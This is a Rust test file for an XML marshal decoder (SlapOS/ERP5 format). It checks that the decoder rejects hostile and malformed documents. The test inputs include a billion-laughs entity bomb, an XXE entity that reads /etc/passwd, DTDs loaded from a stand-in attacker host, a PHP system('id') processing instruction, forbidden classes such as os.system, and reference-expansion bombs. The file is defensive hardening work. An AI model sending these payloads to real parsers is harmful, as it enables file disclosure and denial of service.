//! Hostile and broken marshal documents: every one is refused with an
//! error, without panicking or hanging.

use slapos_proto::{dumps, loads, loads_with_limits, DecodeError, Limits, Value};

use crate::common::within_time;
use crate::exchanges::marshal_documents;

fn refused(what: &str, xml: String) -> DecodeError {
    let result = within_time(what, move || loads(&xml));
    match result {
        Ok(v) => panic!("{what}: accepted as {v:?}"),
        Err(e) => {
            eprintln!("{what}: {e}");
            e
        }
    }
}

const BILLION_LAUGHS: &str = r#"<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<marshal><string>&lol9;</string></marshal>"#;

#[test]
fn dtds_and_entities_are_refused() {
    assert!(matches!(
        refused("billion laughs", BILLION_LAUGHS.into()),
        DecodeError::Doctype { .. }
    ));
    let xxe = r#"<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><marshal><string>&e;</string></marshal>"#;
    assert!(matches!(
        refused("external entity", xxe.into()),
        DecodeError::Doctype { .. }
    ));
    let param = r#"<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.invalid/x.dtd"> %p;]><marshal><none/></marshal>"#;
    assert!(matches!(
        refused("parameter entity", param.into()),
        DecodeError::Doctype { .. }
    ));
    let external_dtd =
        r#"<!DOCTYPE marshal SYSTEM "http://attacker.invalid/x.dtd"><marshal><none/></marshal>"#;
    assert!(matches!(
        refused("external DTD", external_dtd.into()),
        DecodeError::Doctype { .. }
    ));
    let undefined = "<marshal><string>&e;</string></marshal>";
    assert!(matches!(
        refused("undefined entity", undefined.into()),
        DecodeError::Entity { .. }
    ));
    let message = refused("message", undefined.into()).to_string();
    assert!(
        message.contains("&e;") && message.contains("column 18"),
        "{message}"
    );
}

#[test]
fn deep_nesting_is_refused() {
    for tag in ["list", "tuple", "dictionary", "set"] {
        let open = if tag == "tuple" {
            "<tuple>".to_owned()
        } else {
            format!("<{tag} id=\"i2\">")
        };
        let xml = format!(
            "<marshal>{}{}</marshal>",
            open.repeat(10_000),
            format!("</{tag}>").repeat(10_000)
        );
        assert!(matches!(
            refused(tag, xml),
            DecodeError::TooDeep { limit: 128, .. }
        ));
    }
    let ns = format!(
        "<m:marshal xmlns:m=\"http://www.erp5.org/namespaces/marshaller\">{}</m:marshal>",
        "<m:tuple>".repeat(10_000)
    );
    assert!(matches!(
        refused("namespaced", ns),
        DecodeError::TooDeep { .. }
    ));
    // Exactly at the limit is fine.
    let ok = format!(
        "<marshal>{}<none/>{}</marshal>",
        "<tuple>".repeat(126),
        "</tuple>".repeat(126)
    );
    assert!(loads(&ok).is_ok());
    let too_deep = format!(
        "<marshal>{}<none/>{}</marshal>",
        "<tuple>".repeat(127),
        "</tuple>".repeat(127)
    );
    assert!(loads(&too_deep).is_err());
    let shallow = Limits {
        max_depth: 3,
        ..Limits::default()
    };
    // The root counts as one level.
    assert!(loads_with_limits("<marshal><list><list/></list></marshal>", &shallow).is_ok());
    assert!(loads_with_limits(
        "<marshal><list><list><none/></list></list></marshal>",
        &shallow
    )
    .is_err());
}

#[test]
fn truncated_documents_are_refused() {
    let docs = marshal_documents();
    let doc = docs
        .iter()
        .map(|(_, d)| d)
        .filter(|d| d.len() < 4000)
        .max_by_key(|d| d.len())
        .unwrap()
        .clone();
    within_time("every prefix", move || {
        for end in (0..doc.len()).filter(|&i| doc.is_char_boundary(i)) {
            assert!(
                loads(&doc[..end]).is_err(),
                "prefix of {end} bytes accepted"
            );
        }
    });
    assert!(matches!(
        refused("unclosed", "<marshal><list id=\"i2\">".into()),
        DecodeError::Truncated { .. }
    ));
    assert!(matches!(
        refused("mid-tag", "<marshal><str".into()),
        DecodeError::Truncated { .. }
    ));
    assert!(matches!(
        refused("empty", String::new()),
        DecodeError::Truncated { .. }
    ));
}

#[test]
fn classes_outside_the_whitelist_are_refused() {
    let obj = |module: &str, class: &str| {
        format!("<marshal><object id=\"i2\" module=\"{module}\" class=\"{class}\"><tuple/><dictionary id=\"i3\"/></object></marshal>")
    };
    for (module, class) in [
        ("os", "system"),
        ("slapos.slap.slap", "Supply"),
        ("slapos.slap", "Computer"),
        ("builtins", "eval"),
        ("slapos.slap.slap", "computer"),
    ] {
        let e = refused(&format!("{module}.{class}"), obj(module, class));
        assert!(matches!(e, DecodeError::ForbiddenClass { .. }), "{e}");
    }
    assert!(loads(&obj("slapos.slap.slap", "SoftwareInstance")).is_ok());
    refused("no module", "<marshal><object id=\"i2\" class=\"Computer\"><tuple><string>c</string></tuple><dictionary id=\"i3\"/></object></marshal>".into());
    refused("constructor arity", obj("slapos.slap.slap", "Computer"));
    refused("attrs not a dict", "<marshal><object id=\"i2\" module=\"slapos.slap.slap\" class=\"SoftwareInstance\"><tuple/><list id=\"i3\"/></object></marshal>".into());
    refused("non-string attribute", "<marshal><object id=\"i2\" module=\"slapos.slap.slap\" class=\"SoftwareInstance\"><tuple/><dictionary id=\"i3\"><int>1</int><none/></dictionary></object></marshal>".into());
    refused("three children", "<marshal><object id=\"i2\" module=\"slapos.slap.slap\" class=\"SoftwareInstance\"><tuple/><dictionary id=\"i3\"/><none/></object></marshal>".into());
}

#[test]
fn malformed_content_is_refused() {
    let cases = [
        ("bad int", "<marshal><int>12x</int></marshal>"),
        ("empty int", "<marshal><int></int></marshal>"),
        ("hex int", "<marshal><int>0x10</int></marshal>"),
        ("bad long", "<marshal><long>1.5</long></marshal>"),
        ("bad float", "<marshal><float>one</float></marshal>"),
        ("bad bool", "<marshal><bool>yes</bool></marshal>"),
        ("text in none", "<marshal><none>x</none></marshal>"),
        ("unknown element", "<marshal><script/></marshal>"),
        ("complex", "<marshal><complex>1.0 2.0</complex></marshal>"),
        ("code", "<marshal><code>YWJj</code></marshal>"),
        ("wrong root", "<other><int>1</int></other>"),
        ("empty root", "<marshal></marshal>"),
        (
            "two values",
            "<marshal><string>x</string><string>y</string></marshal>",
        ),
        (
            "two roots",
            "<marshal><none/></marshal><marshal><none/></marshal>",
        ),
        ("text after root", "<marshal><none/></marshal>junk"),
        (
            "text in list",
            "<marshal><list id=\"i2\">junk<int>1</int></list></marshal>",
        ),
        (
            "element in string",
            "<marshal><string>a<int>1</int></string></marshal>",
        ),
        (
            "nested marshal",
            "<marshal><list><marshal/></list></marshal>",
        ),
        (
            "odd dictionary",
            "<marshal><dictionary id=\"i2\"><string>a</string></dictionary></marshal>",
        ),
        (
            "list key",
            "<marshal><dictionary id=\"i2\"><list id=\"i3\"/><none/></dictionary></marshal>",
        ),
        (
            "dangling reference",
            "<marshal><list id=\"i2\"><reference id=\"i9\"/></list></marshal>",
        ),
        (
            "reference without id",
            "<marshal><list id=\"i2\"><reference/></list></marshal>",
        ),
        (
            "self reference",
            "<marshal><list id=\"i2\"><reference id=\"i2\"/></list></marshal>",
        ),
        (
            "processing instruction",
            "<marshal><?php system('id'); ?><none/></marshal>",
        ),
        (
            "stylesheet",
            "<?xml-stylesheet href=\"x.xsl\"?><marshal><none/></marshal>",
        ),
        (
            "late declaration",
            " <?xml version=\"1.0\"?><marshal><none/></marshal>",
        ),
        (
            "latin-1",
            "<?xml version=\"1.0\" encoding=\"iso-8859-1\"?><marshal><none/></marshal>",
        ),
        (
            "control char reference",
            "<marshal><string>&#0;</string></marshal>",
        ),
        (
            "control char reference 1",
            "<marshal><string>&#1;</string></marshal>",
        ),
        (
            "non-character reference",
            "<marshal><string>&#xFFFE;</string></marshal>",
        ),
        (
            "raw control char",
            "<marshal><string>\u{1}</string></marshal>",
        ),
        (
            "bare ampersand",
            "<marshal><string>a & b</string></marshal>",
        ),
        (
            "mismatched end",
            "<marshal><list id=\"i2\"></tuple></marshal>",
        ),
        (
            "foreign namespace",
            "<x:marshal xmlns:x=\"urn:other\"><x:none/></x:marshal>",
        ),
        ("undeclared prefix", "<x:marshal><x:none/></x:marshal>"),
        (
            "duplicate attribute",
            "<marshal><list id=\"i2\" id=\"i3\"/></marshal>",
        ),
        ("unquoted attribute", "<marshal a=b><none/></marshal>"),
        (
            "entity in attribute",
            "<marshal><list id=\"&e;\"/></marshal>",
        ),
        (
            "control char in attribute",
            "<marshal><list id=\"&#2;\"/></marshal>",
        ),
    ];
    for (what, xml) in cases {
        refused(what, xml.into());
    }
}

#[test]
fn size_and_reference_expansion_are_bounded() {
    let small = Limits {
        max_size: 100,
        ..Limits::default()
    };
    let doc = format!("<marshal><string>{}</string></marshal>", "x".repeat(200));
    assert_eq!(
        loads_with_limits(&doc, &small),
        Err(DecodeError::TooLarge {
            size: doc.len(),
            limit: 100
        })
    );
    let huge = format!(
        "<marshal><string>{}</string></marshal>",
        "x".repeat(17 * 1024 * 1024)
    );
    assert!(matches!(
        refused("17 MiB", huge),
        DecodeError::TooLarge { .. }
    ));

    // "Billion laughs" made of references: each list holds ten references
    // to the previous one.
    let mut xml = String::from("<marshal><list id=\"i1\"><list id=\"i2\"><string>");
    xml.push_str(&"lol".repeat(100));
    xml.push_str("</string></list>");
    for level in 3..40 {
        xml.push_str(&format!("<list id=\"i{level}\">"));
        for _ in 0..10 {
            xml.push_str(&format!("<reference id=\"i{}\"/>", level - 1));
        }
        xml.push_str("</list>");
    }
    xml.push_str("</list></marshal>");
    let e = refused("reference laughs", xml);
    assert!(
        matches!(
            e,
            DecodeError::ReferenceExpansion { .. } | DecodeError::TooDeep { .. }
        ),
        "{e}"
    );

    // References that are legitimate stay within bounds.
    let shared = "<marshal><list id=\"i2\"><dictionary id=\"i3\"><string>k</string><string>v</string></dictionary><reference id=\"i3\"/></list></marshal>";
    assert_eq!(
        loads(shared).unwrap().as_slice().map(<[Value]>::len),
        Some(2)
    );
}

/// Deterministic byte-level mutations of real documents: whatever the
/// decoder answers, it must not panic, and what it accepts re-encodes.
#[test]
fn mutated_documents_never_panic() {
    let docs: Vec<String> = marshal_documents()
        .into_iter()
        .map(|(_, d)| d)
        .filter(|d| d.len() < 20_000)
        .collect();
    within_time("mutations", move || {
        let mut seed: u64 = 0x2545_f491_4f6c_dd1d;
        let mut next = move || {
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            seed
        };
        let alphabet = b"<>/&;#\"'=ix0-9 a\r\n:".as_slice();
        let mut accepted = 0;
        for round in 0..3000 {
            let doc = &docs[round % docs.len()];
            let mut bytes = doc.clone().into_bytes();
            for _ in 0..(1 + next() % 4) {
                let i = (next() % bytes.len() as u64) as usize;
                match next() % 3 {
                    0 => bytes[i] = alphabet[(next() % alphabet.len() as u64) as usize],
                    1 => {
                        bytes.remove(i);
                    }
                    _ => {
                        let end = (i + 1 + (next() % 40) as usize).min(bytes.len());
                        let chunk = bytes[i..end].to_vec();
                        bytes.splice(i..i, chunk);
                    }
                }
                if bytes.is_empty() {
                    break;
                }
            }
            let Ok(text) = String::from_utf8(bytes) else {
                continue;
            };
            if let Ok(v) = loads(&text) {
                accepted += 1;
                // Whatever is accepted can be written back (unless it holds
                // a character the encoder refuses, which loads never yields).
                dumps(&v).expect("accepted values re-encode");
            }
        }
        eprintln!("{accepted} of 3000 mutated documents were still valid");
    });
}
